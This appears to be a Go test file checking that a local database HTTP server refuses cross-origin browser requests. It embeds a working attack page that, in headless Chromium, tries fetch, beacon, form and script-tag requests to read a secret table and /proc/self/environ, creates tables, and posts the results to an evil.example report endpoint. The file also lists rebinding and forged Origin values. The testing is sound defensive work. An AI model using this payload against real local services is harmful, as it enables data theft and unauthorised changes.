package httpserver_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// browser runs Debian's headless browser on an address, in which evil.example is this machine, until ctx ends or it is
// done.
func browser(ctx context.Context, t *testing.T, more ...string) (stdout string, err error) {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatal("chromium is not there: the attacks of a web page are made by a browser; install Debian's package chromium")
	}
	profile, err := os.MkdirTemp("", "retorno-chromium-") // not t.TempDir: the browser's helpers may write a moment longer
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = os.RemoveAll(profile) }()
	cmd := exec.CommandContext(ctx, path, append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--disable-crash-reporter",
		"--user-data-dir=" + profile, "--host-resolver-rules=MAP evil.example 127.0.0.1"}, more...)...)
	cmd.WaitDelay = time.Second // for helpers that hold its output open
	out, err := cmd.Output()
	return string(out), err
}

// look gives what a person sees who types an address.
func look(t *testing.T, address string) string {
	t.Helper()
	out, err := browser(t.Context(), t, "--dump-dom", address)
	if err != nil {
		t.Fatalf("chromium %s: %v", address, err)
	}
	return out
}

// attack is a page that tries, at each of the targets, everything that a browser lets a page of another origin try, and
// writes down what it could read. %s are the targets.
const attack = `<!doctype html><title>attack</title><body><pre id="read"></pre><script>
let loading = 0;
const targets = [%s], read = document.getElementById('read');
const say = (what, text) => { read.textContent += what + ': ' + text + '\n'; };
async function attempt(what, address, options) {
  try { const a = await fetch(address, options); say(what, a.type + ' ' + await a.text()); } catch (e) { say(what, e); }
}
function form(address, method, name, value) {
  const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
  const f = document.createElement('form'); f.action = address; f.method = method; f.enctype = 'text/plain'; f.target = frame.name;
  const i = document.createElement('input'); i.name = name; i.value = value; f.append(i); document.body.append(f);
  loading++; frame.onload = () => loading--; f.submit();
}
const select = 'SELECT word FROM browser.secret FORMAT Values'; // text/plain, which a frame shows
(async () => {
  for (const [i, at] of targets.entries()) {
    const q = at + '/?query=' + encodeURIComponent(select);
    await attempt('simple get', q);
    await attempt('asks for the header', q + '&add_http_cors_header=1');
    await attempt('simple post', at, {method: 'POST', body: select});
    await attempt('preflighted', at, {method: 'POST', headers: {'X-ClickHouse-User': 'default', 'X-ClickHouse-Format': 'TSV'}, body: select});
    await attempt('environment', at, {method: 'POST', body: "SELECT file('/proc/self/environ')"});
    await attempt('opaque', at, {mode: 'no-cors', method: 'POST', body: 'CREATE TABLE browser.owned_opaque' + i + ' ENGINE = Memory AS SELECT 1 AS a'});
    navigator.sendBeacon(at + '/', 'CREATE TABLE browser.owned_beacon' + i + ' ENGINE = Memory AS SELECT 1 AS a');
    form(at + '/', 'POST', 'CREATE TABLE browser.owned_form' + i + ' ENGINE ', ' Memory AS SELECT 1 AS a'); // a form writes name=value
    form(at + '/', 'GET', 'query', select);
    const s = document.createElement('script'); s.src = at + '/?query=' + encodeURIComponent("SELECT 'say(1,' || '\\'script ' || word || '\\')' FROM browser.secret FORMAT TSVRaw"); loading++; s.onload = s.onerror = () => loading--; document.body.append(s);
    const m = new Image(); m.src = q; document.body.append(m);
  }
  for (let n = 0; n < 50 && loading > 0; n++) await new Promise(done => setTimeout(done, 100)); // scripts, as far as they come
  await fetch('/report', {method: 'POST', body: read.textContent});
})();
</script>`

// A page of another origin, in a real browser, reads nothing and changes nothing. The same page at a server that
// tells no origins apart reads and changes all, so that its failure means something.
func TestAWebPageGetsNothing(t *testing.T) {
	sql(t, "CREATE DATABASE browser")
	sql(t, "CREATE TABLE browser.secret (word String) ENGINE = Memory")
	sql(t, "INSERT INTO browser.secret VALUES ('xyzzy')")
	var targets string
	reports := make(chan string, 1)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/report" {
			text, _ := io.ReadAll(r.Body) // what is missing of it, the test misses
			reports <- string(text)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = fmt.Fprintf(w, attack, targets)
	}))
	defer evil.Close()
	// attacked opens the page in the browser and gives what it read.
	attacked := func(address string) string {
		ctx, cancel := context.WithCancel(t.Context())
		ended := make(chan error, 1)
		go func() { _, err := browser(ctx, t, "--remote-debugging-port=0", address); ended <- err }()
		defer func() { cancel(); <-ended }()
		select {
		case text := <-reports:
			return text
		case err := <-ended:
			ended <- err
			t.Fatalf("the browser ended before the attack: %v", err)
			return ""
		}
	}
	owned := func() string {
		return sql(t, "SELECT arrayStringConcat(arraySort(groupArray(name)), ' ') FROM system.tables WHERE database = 'browser' AND name LIKE 'owned%'")
	}

	_, port, err := net.SplitHostPort(engine.HTTP())
	if err != nil {
		t.Fatal(err)
	}
	targets = fmt.Sprintf("'http://127.0.0.1:%[1]s', 'http://localhost:%[1]s', 'http://evil.example:%[1]s'", port)
	for _, from := range []string{evil.URL, strings.Replace(evil.URL, "127.0.0.1", "localhost", 1), strings.Replace(evil.URL, "127.0.0.1", "evil.example", 1)} {
		page := attacked(from)
		if strings.Count(page, "simple get: TypeError") != 3 || strings.Contains(page, "xyzzy") || strings.Contains(page, "TZ=") {
			t.Errorf("a page at %s read:\n%s", from, page)
		}
	}
	// The name of a page that was given this address after it was loaded is of the page's own origin.
	if page := look(t, "http://evil.example:"+port+"/?query=SELECT+word+FROM+browser.secret+FORMAT+Pretty"); strings.Contains(page, "xyzzy") {
		t.Errorf("a rebound name read:\n%s", page)
	}
	if got := owned(); got != "\n" {
		t.Errorf("pages made %s", got)
	}
	if page := look(t, "http://127.0.0.1:"+port+"/?query=SELECT+word+FROM+browser.secret+FORMAT+Pretty"); !strings.Contains(page, "xyzzy") {
		t.Errorf("a person who types the address does not see the answer:\n%s", page)
	}

	careless := httptest.NewServer(tellsNobodyApart())
	defer careless.Close()
	targets = "'" + careless.URL + "'"
	page := attacked(evil.URL)
	for _, want := range []string{"simple get: cors ('xyzzy')", "asks for the header: cors ('xyzzy')", "simple post: cors ('xyzzy')", "preflighted: cors ('xyzzy')", "1: script xyzzy"} {
		if !strings.Contains(page, want) {
			t.Errorf("the attack does not work where nothing keeps it off: no %q in\n%s", want, page)
		}
	}
	if got := owned(); got != "owned_beacon0 owned_form0 owned_opaque0\n" {
		t.Errorf("where nothing keeps them off, pages made %s", got)
	}
}

// tellsNobodyApart passes everything on to the engine as a program's request, and lets every page read the answers.
func tellsNobodyApart() http.Handler {
	proxy := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.Out.URL.Scheme, r.Out.URL.Host, r.Out.Host = "http", engine.HTTP(), engine.HTTP()
			for _, h := range []string{"Origin", "Referer", "Sec-Fetch-Site"} {
				r.Out.Header.Del(h)
			}
		},
	}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		if r.Method != http.MethodOptions {
			proxy.ServeHTTP(w, r)
		}
	})
}

// What a request says of where it comes from, one by one.
func TestRequestsOfOtherOriginsAreRefused(t *testing.T) {
	at := engine.HTTP()
	_, port, err := net.SplitHostPort(at)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		host, header string
		want         int
	}{
		{at, "", 200}, {"localhost:" + port, "", 200}, {"localhost", "", 200}, {"LOCALHOST.:" + port, "", 200}, {"[::1]:" + port, "", 200}, {"127.8.9.10:" + port, "", 200},
		{at, "Origin: http://" + at, 200}, {at, "Referer: http://" + at + "/play", 200}, {at, "Sec-Fetch-Site: same-origin", 200}, {at, "Sec-Fetch-Site: none", 200},
		{at, "Origin: https://evil.example", 403}, {at, "Origin: null", 403}, {at, "Origin: http://127.0.0.1:1", 403}, {at, "Origin: https://" + at, 403}, {at, "Origin: file://", 403},
		{at, "Origin: http://localhost:" + port, 403}, {at, "Referer: https://evil.example/x", 403}, {at, "Sec-Fetch-Site: cross-site", 403}, {at, "Sec-Fetch-Site: same-site", 403},
		{"evil.example", "", 403}, {"evil.example:" + port, "Origin: http://evil.example:" + port, 403}, {"localhost.evil.example", "", 403}, {"127.0.0.1.evil.example:" + port, "", 403},
		{"10.1.2.3:" + port, "", 403}, {"127.0.0.1.:" + port, "", 403}, {"0x7f.1:" + port, "", 403},
	} {
		for _, method := range []string{http.MethodGet, http.MethodPost, http.MethodOptions, http.MethodHead} {
			r, err := http.NewRequestWithContext(t.Context(), method, "http://"+at+"/?query=SELECT+1", nil)
			if err != nil {
				t.Fatal(err)
			}
			r.Host = c.host
			if name, value, ok := strings.Cut(c.header, ": "); ok {
				r.Header.Set(name, value)
			}
			want := c.want
			if method == http.MethodOptions && want == 200 {
				want = 204
			}
			a := do(t, r)
			if a.status != want || strings.Contains(fmt.Sprint(a.header), "Access-Control") {
				t.Errorf("%s, host %s, %s: status %d, want %d, %v", method, c.host, c.header, a.status, want, a.header)
			}
		}
	}
}
